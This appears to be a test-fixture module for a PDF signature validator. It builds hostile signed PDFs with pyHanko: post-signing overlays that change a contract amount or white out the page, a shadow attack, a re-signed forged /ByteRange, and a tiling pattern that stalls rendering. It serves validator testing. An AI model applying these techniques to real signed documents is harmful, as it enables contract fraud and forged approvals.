"""Build hostile PDFs from signed ones: later incremental updates, doctored /ByteRange, shadows.

Everything is done with pyHanko's low-level PDF writer, never with Paraphe's own code, so the
validator is checked against PDFs it did not help to make.
"""

from __future__ import annotations

import asyncio
import hashlib
import re
from collections.abc import Callable
from pathlib import Path

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers

Edit = Callable[[IncrementalPdfFileWriter], None]

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[([\d\s]+)\]")


def append_revision(source: Path, target: Path, edit: Edit) -> Path:
    """Copy ``source`` to ``target`` with one more revision, made by ``edit``."""
    with open(source, "rb") as handle:
        writer = IncrementalPdfFileWriter(handle, strict=False)
        edit(writer)
        with open(target, "wb") as out:
            writer.write(out)
    return target


def _stream(writer: IncrementalPdfFileWriter, content: bytes) -> generic.IndirectObject:
    return writer.add_object(generic.StreamObject(stream_data=content))


def _first_page(writer: IncrementalPdfFileWriter) -> tuple[generic.Reference, generic.PdfObject]:
    page_ref, _resources = writer.find_page_for_modification(0)
    return page_ref, page_ref.get_object()


def add_text_to_first_page(writer: IncrementalPdfFileWriter) -> None:
    """A new content stream drawn over page 1 (the classic "PAID" stamp after signing)."""
    stamp = b"BT /F1 40 Tf 150 400 Td (BON POUR 1 000 000 EUR) Tj ET"
    writer.add_stream_to_page(0, _stream(writer, stamp))


def overwrite_first_page_content(writer: IncrementalPdfFileWriter) -> None:
    """The page's content stream object redefined under the same object number."""
    _page_ref, page = _first_page(writer)
    contents = page.raw_get("/Contents")
    assert isinstance(contents, generic.IndirectObject)
    replacement = generic.StreamObject(
        stream_data=b"BT /F1 20 Tf 72 760 Td (ACTE MODIFIE APRES SIGNATURE) Tj ET"
    )
    writer.objects[(contents.generation, contents.idnum)] = replacement


def add_page(writer: IncrementalPdfFileWriter) -> None:
    _page_ref, first = _first_page(writer)
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): generic.ArrayObject(
                [generic.NumberObject(n) for n in (0, 0, 595, 842)]
            ),
            pdf_name("/Contents"): _stream(
                writer, b"BT /F1 20 Tf 72 760 Td (ANNEXE AJOUTEE APRES SIGNATURE) Tj ET"
            ),
            pdf_name("/Resources"): first["/Resources"],
        }
    )
    writer.insert_page(page)


def add_shadow_stream(writer: IncrementalPdfFileWriter) -> None:
    """Before signing: a second content stream, referenced from the catalog but never drawn.

    It is part of what the signer signs, and looks harmless: nothing shows it.
    """
    shadow = _stream(
        writer, b"BT /F1 20 Tf 72 760 Td (ACTE D'ENGAGEMENT - PRIX : 9 999 999 EUR) Tj ET"
    )
    writer.root[pdf_name("/ParapheTestShadow")] = shadow
    writer.update_root()


def reveal_shadow_stream(writer: IncrementalPdfFileWriter) -> None:
    """After signing: only the page's /Contents reference changes, to the hidden stream."""
    shadow = writer.root.raw_get("/ParapheTestShadow")
    page_ref, page = _first_page(writer)
    page[pdf_name("/Contents")] = shadow
    writer.mark_update(page_ref)


# --- /ByteRange --------------------------------------------------------------------------------


def byte_range(data: bytes) -> tuple[int, int, int, int]:
    """The /ByteRange of the last signature in ``data``."""
    match = list(_BYTE_RANGE.finditer(data))[-1]
    numbers = tuple(int(n) for n in match.group(1).split())
    assert len(numbers) == 4, numbers
    return numbers  # type: ignore[return-value]


def resign_with_byte_range(
    signed: Path,
    target: Path,
    new_range: tuple[int, int, int, int],
    key: Path,
    cert: Path,
    chain: Path,
) -> Path:
    """Rewrite the last signature's /ByteRange, then sign exactly those bytes again.

    The result is cryptographically sound: the digest in the new CMS is the digest of the
    bytes the doctored /ByteRange names. Only the coverage is wrong, which is the point.
    """
    data = bytearray(signed.read_bytes())
    match = list(_BYTE_RANGE.finditer(data))[-1]
    old = tuple(int(n) for n in match.group(1).split())
    contents_start, contents_end = old[1], old[2]  # '<' ... '>' of /Contents
    assert data[contents_start : contents_start + 1] == b"<"
    assert data[contents_end - 1 : contents_end] == b">"
    width = match.end(1) - match.start(1)
    text = " ".join(str(n) for n in new_range).encode()
    assert len(text) <= width, "the new /ByteRange does not fit in the old one's place"
    data[match.start(1) : match.end(1)] = text.ljust(width)
    hex_area = contents_end - contents_start - 2
    data[contents_start + 1 : contents_end - 1] = b"0" * hex_area
    digest = hashlib.sha256()
    for start, length in ((new_range[0], new_range[1]), (new_range[2], new_range[3])):
        digest.update(bytes(data[start : start + length]))
    signer = signers.SimpleSigner.load(str(key), str(cert), ca_chain_files=(str(chain),))
    assert signer is not None
    cms = asyncio.run(signer.async_sign(digest.digest(), "sha256", use_pades=True)).dump()
    encoded = cms.hex().encode()
    assert len(encoded) <= hex_area
    written = range(contents_start + 1, contents_start + 1 + len(encoded))
    for start, length in ((new_range[0], new_range[1]), (new_range[2], new_range[3])):
        overlaps = start < written.stop and written.start < start + length
        assert not overlaps, "the signature value would land in the signed bytes"
    data[contents_start + 1 : contents_start + 1 + len(encoded)] = encoded
    target.write_bytes(bytes(data))
    return target


def add_text_field(writer: IncrementalPdfFileWriter) -> None:
    """Before signing: an empty text field "Montant" on page 1, to be filled in later."""
    page_ref, _page = _first_page(writer)
    field = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): generic.TextStringObject("Montant"),
            pdf_name("/V"): generic.TextStringObject(""),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/P"): page_ref,
            pdf_name("/DA"): generic.TextStringObject("/Helv 10 Tf 0 g"),
            pdf_name("/Rect"): generic.ArrayObject(
                [generic.NumberObject(n) for n in (72, 600, 300, 620)]
            ),
        }
    )
    field_ref = writer.add_object(field)
    writer.register_annotation(page_ref, field_ref)
    writer.root[pdf_name("/AcroForm")] = generic.DictionaryObject(
        {pdf_name("/Fields"): generic.ArrayObject([field_ref])}
    )
    writer.update_root()


def fill_text_field(writer: IncrementalPdfFileWriter) -> None:
    """After signing: the value of the "Montant" field set, nothing else touched."""
    for ref in writer.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == "Montant":
            field[pdf_name("/V")] = generic.TextStringObject("12 345,00 EUR")
            writer.mark_update(ref)
            return
    raise AssertionError("no Montant field")


# --- appearances drawn after signing -------------------------------------------------------------


def _helvetica(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    font = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/Helvetica"),
            }
        )
    )
    return generic.DictionaryObject(
        {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): font})}
    )


def unsigned_signature_field(
    rect: tuple[float, float, float, float], drawing: bytes, name: str = "Signature9"
) -> Edit:
    """After signing: a new, empty signature field on page 1 whose widget draws ``drawing``
    (content-stream operators in the field's own coordinates, /F1 is Helvetica) in ``rect``.

    Object-wise this is what a legitimate tool does to prepare the next signature, so pyHanko's
    difference analysis rates it FORM_FILLING; only what it draws tells the attack apart.
    """

    def edit(writer: IncrementalPdfFileWriter) -> None:
        page_ref, _page = _first_page(writer)
        width, height = rect[2] - rect[0], rect[3] - rect[1]
        appearance = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(
                    [generic.FloatObject(v) for v in (0, 0, width, height)]
                ),
                pdf_name("/Resources"): _helvetica(writer),
            },
            stream_data=drawing,
        )
        widget = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/FT"): pdf_name("/Sig"),
                pdf_name("/T"): generic.TextStringObject(name),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/P"): page_ref,
                pdf_name("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in rect]),
                pdf_name("/AP"): generic.DictionaryObject(
                    {pdf_name("/N"): writer.add_object(appearance)}
                ),
            }
        )
        widget_ref = writer.add_object(widget)
        writer.register_annotation(page_ref, widget_ref)
        form = writer.root["/AcroForm"]
        form["/Fields"].append(widget_ref)
        form_ref = writer.root.raw_get("/AcroForm")
        if isinstance(form_ref, generic.IndirectObject):
            writer.mark_update(form_ref)
        else:
            writer.update_root()

    return edit


# Over the signed line "Montant de l'offre : 12 345,67 EUR HT" of the sample acte d'engagement.
AMOUNT_LINE = (70.0, 659.0, 330.0, 677.0)
NEW_AMOUNT = (
    b"1 1 1 rg 0 0 260 18 re f 0 0 0 rg"
    b" BT /F1 11 Tf 2 5 Td (Montant de l'offre : 925 000,00 EUR HT) Tj ET"
)
WHOLE_PAGE = (0.0, 0.0, 595.0, 842.0)
WHITE_BOX = b"1 1 1 rg 0 0 595 842 re f"
# Below the signed text, where the page is blank.
BLANK_AREA = (72.0, 500.0, 400.0, 520.0)
ADDED_LINE = b"0 0 0 rg BT /F1 11 Tf 0 5 Td (Remise exceptionnelle : 90 %) Tj ET"


def rotate_first_page(degrees: int) -> Edit:
    """Before signing: page 1 shown rotated, to check where rectangles land on screen."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        page_ref, page = _first_page(writer)
        page[pdf_name("/Rotate")] = generic.NumberObject(degrees)
        writer.mark_update(page_ref)

    return edit


# The "Montant" field of add_text_field, in page coordinates.
FIELD_RECT = (72.0, 600.0, 300.0, 620.0)


def _value_appearance(writer: IncrementalPdfFileWriter, value: str) -> generic.IndirectObject:
    """The appearance a form filler writes for a text field: its value in Helvetica."""
    width, height = FIELD_RECT[2] - FIELD_RECT[0], FIELD_RECT[3] - FIELD_RECT[1]
    text = value.encode("cp1252").replace(b"(", b"\\(").replace(b")", b"\\)")
    return writer.add_object(
        generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(
                    [generic.FloatObject(v) for v in (0, 0, width, height)]
                ),
                pdf_name("/Resources"): _helvetica(writer),
            },
            stream_data=b"/Tx BMC 0 g BT /F1 10 Tf 2 6 Td (" + text + b") Tj ET EMC",
        )
    )


def text_field_showing(value: str) -> Edit:
    """Before signing: the "Montant" field already filled in, its value drawn on the page."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        add_text_field(writer)
        set_text_field_shown(value)(writer)

    return edit


def set_text_field_shown(value: str) -> Edit:
    """The "Montant" field's value set and drawn, as a form filler does (value and appearance)."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        for ref in writer.root["/AcroForm"]["/Fields"]:
            field = ref.get_object()
            if field.get("/T") == "Montant":
                field[pdf_name("/V")] = generic.TextStringObject(value)
                field[pdf_name("/AP")] = generic.DictionaryObject(
                    {pdf_name("/N"): _value_appearance(writer, value)}
                )
                writer.mark_update(ref)
                return
        raise AssertionError("no Montant field")

    return edit


def text_field_showing_without_value(value: str) -> Edit:
    """Before signing: the "Montant" field drawing ``value`` but holding no /V (some tools
    write only the appearance)."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        text_field_showing(value)(writer)
        for ref in writer.root["/AcroForm"]["/Fields"]:
            field = ref.get_object()
            if field.get("/T") == "Montant":
                del field["/V"]
                writer.mark_update(ref)

    return edit


def form_redrawn_with(font: str) -> Edit:
    """After signing: the form's default resources point /Helv at another font and readers are
    told to redraw every field (/NeedAppearances): only form-wide settings change."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        form = writer.root["/AcroForm"]
        form[pdf_name("/NeedAppearances")] = generic.BooleanObject(True)
        replacement = writer.add_object(
            generic.DictionaryObject(
                {
                    pdf_name("/Type"): pdf_name("/Font"),
                    pdf_name("/Subtype"): pdf_name("/Type1"),
                    pdf_name("/BaseFont"): pdf_name(font),
                }
            )
        )
        form[pdf_name("/DR")] = generic.DictionaryObject(
            {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/Helv"): replacement})}
        )
        form_ref = writer.root.raw_get("/AcroForm")
        if isinstance(form_ref, generic.IndirectObject):
            writer.mark_update(form_ref)
        else:
            writer.update_root()

    return edit


def draw_on_first_page(operators: bytes) -> Edit:
    """Before signing: more content on page 1 (a light footer, a light line of text)."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        writer.add_stream_to_page(0, _stream(writer, operators))

    return edit


def count_one_page_too_many(writer: IncrementalPdfFileWriter) -> None:
    """Before signing: a page tree whose /Count says one page more than it holds (a sloppy
    producer; readers differ on which to believe)."""
    pages_ref = writer.root.raw_get("/Pages")
    pages = pages_ref.get_object()
    pages[pdf_name("/Count")] = generic.NumberObject(int(pages["/Count"]) + 1)
    writer.mark_update(pages_ref)


# A tiling pattern a hundredth of a point wide over the whole page: pdfium draws it for minutes.
SLOW_PATTERN = b"/Pattern cs /P1 scn 0 0 595 842 re f"


def slow_pattern_field(step: float) -> Edit:
    """After signing: an unsigned field whose appearance fills page 1 with a tiny tiling pattern."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        pattern = writer.add_object(
            generic.StreamObject(
                {
                    pdf_name("/PatternType"): generic.NumberObject(1),
                    pdf_name("/PaintType"): generic.NumberObject(1),
                    pdf_name("/TilingType"): generic.NumberObject(1),
                    pdf_name("/BBox"): generic.ArrayObject(
                        [generic.NumberObject(v) for v in (0, 0, 1, 1)]
                    ),
                    pdf_name("/XStep"): generic.FloatObject(step),
                    pdf_name("/YStep"): generic.FloatObject(step),
                    pdf_name("/Resources"): generic.DictionaryObject(),
                },
                stream_data=b"1 1 1 rg 0 0 1 1 re f",
            )
        )
        unsigned_signature_field(WHOLE_PAGE, SLOW_PATTERN)(writer)
        for ref in writer.root["/AcroForm"]["/Fields"]:
            widget = ref.get_object()
            if widget.get("/T") == "Signature9":
                appearance = widget["/AP"]["/N"]
                appearance["/Resources"][pdf_name("/Pattern")] = generic.DictionaryObject(
                    {pdf_name("/P1"): pattern}
                )

    return edit
